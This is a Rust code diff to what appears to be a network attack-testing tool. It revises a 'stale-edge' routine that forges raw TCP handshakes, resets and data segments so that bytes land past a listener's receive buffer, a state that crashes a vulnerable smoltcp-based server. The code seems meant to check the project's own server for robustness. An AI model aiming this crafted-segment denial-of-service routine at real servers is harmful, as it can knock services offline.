@@ -63,13 +63,14 @@ impl Peer {
         })
     }
 
+    /// Sends one segment; false when the ring had no room for it.
     pub(crate) fn send(
         &mut self,
         control: TcpControl,
         seq: TcpSeqNumber,
         ack: Option<TcpSeqNumber>,
         payload: &[u8],
-    ) {
+    ) -> bool {
         let repr = TcpRepr {
             src_port: self.port,
             dst_port: self.to.port(),
@@ -101,10 +102,12 @@ impl Peer {
             &IpAddress::Ipv4(*self.to.ip()),
             &ChecksumCapabilities::default(),
         );
-        if self.ep.send(&f).is_ok() {
+        let sent = self.ep.send(&f).is_ok();
+        if sent {
             self.sent += 1;
         }
         self.ep.flush();
+        sent
     }
 
     /// The next segment from the server to this connection.
@@ -188,21 +191,23 @@ fn half_open(peer: &mut Peer, iss: TcpSeqNumber, within: Duration) -> Result<Ope
     Ok(opened)
 }
 
+/// How far before the first connection's numbers the second's start (`stale_edge`).
+const STALE_BEFORE: usize = 300_000;
+/// DockLib's receive buffer.
+const ROOM: usize = 256 * 1024;
+
 /// `dnattack stale-edge`: `rounds` times, a half-open connection ended by a RST, then a
 /// connection from the same port whose numbers start [`STALE_BEFORE`] bytes before the first's,
-/// which sends segments from within its buffer's reach up to where the first connection's window
-/// ended. A listener that kept the first connection's window edge for the second took those
-/// bytes past its buffer's room (smoltcp asserts in a debug build); the server must live on and
-/// acknowledge nothing past the room. Reports the rounds whose two handshakes completed and the
-/// acknowledgements past the room.
+/// which sends segments from within its buffer's reach ([`ROOM`]) up to where the first
+/// connection's window ended, and is then reset at its first byte. A listener that kept the
+/// first connection's window edge for the second took those bytes past its buffer's room
+/// (smoltcp asserts in a debug build, and the server dies): it must live on. Reports the rounds
+/// whose two handshakes completed and the segments that left past the room.
 pub fn stale_edge(ep: Endpoint, to: SocketAddrV4, rounds: u32) -> Result<serde_json::Value> {
-    const STALE_BEFORE: usize = 300_000;
-    /// DockLib's receive buffer: nothing past it may be acknowledged.
-    const ROOM: usize = 256 * 1024;
     let seed = std::process::id() as u64 ^ 0x5eed_ed9e;
     let mut x = seed | 1;
     let mut peer = Peer::new(ep, to, 30000)?;
-    let (mut completed, mut past_room, mut sent_past) = (0u64, 0u64, 0u64);
+    let (mut completed, mut sent_past) = (0u64, 0u64);
     let mut payload = Vec::new();
     for k in 0..rounds {
         peer.port = 30000 + (k % 20000) as u16;
@@ -222,29 +227,34 @@ pub fn stale_edge(ep: Endpoint, to: SocketAddrV4, rounds: u32) -> Result<serde_j
         // from a little inside the room to the old edge, odd sizes: beyond the room, only a
         // stale edge lets them in
         let mut at = start + (ROOM - 4096);
+        let give_up = Instant::now() + Duration::from_secs(5);
         while at < stale {
             let len = (1 + super::xorshift(&mut x) as usize % 1400).min(stale - at);
             stream(at - start, &mut payload, len);
-            peer.send(TcpControl::Psh, at, ack, &payload);
+            if !peer.send(TcpControl::Psh, at, ack, &payload) {
+                // the ring is full: the same segment again once the server took some (not
+                // for ever: a server that died takes nothing)
+                if Instant::now() > give_up {
+                    break;
+                }
+                peer.ep.idle(Duration::from_micros(100));
+                continue;
+            }
             if at + len > start + ROOM {
                 sent_past += 1;
             }
             at += len;
-            while let Some(g) = peer.recv() {
-                if g.ack.is_some_and(|a| a > start + ROOM) {
-                    past_room += 1;
-                }
-            }
+            while peer.recv().is_some() {}
         }
+        // (the server's answers to what it refused, then the end: a RST at the byte it waits
+        // for, inside its window)
         let t = Instant::now();
         while t.elapsed() < Duration::from_millis(20) {
-            match peer.recv() {
-                Some(g) if g.ack.is_some_and(|a| a > start + ROOM) => past_room += 1,
-                Some(_) => {}
-                None => peer.ep.idle(Duration::from_millis(1)),
+            if peer.recv().is_none() {
+                peer.ep.idle(Duration::from_millis(1));
             }
         }
-        peer.send(TcpControl::Rst, at, None, &[]);
+        peer.send(TcpControl::Rst, start, None, &[]);
     }
     Ok(json!({
         "attack": "stale-edge",
@@ -252,7 +262,6 @@ pub fn stale_edge(ep: Endpoint, to: SocketAddrV4, rounds: u32) -> Result<serde_j
         "completed": completed,
         "segments": peer.sent,
         "segments_past_room": sent_past,
-        "acked_past_room": past_room,
     }))
 }
 
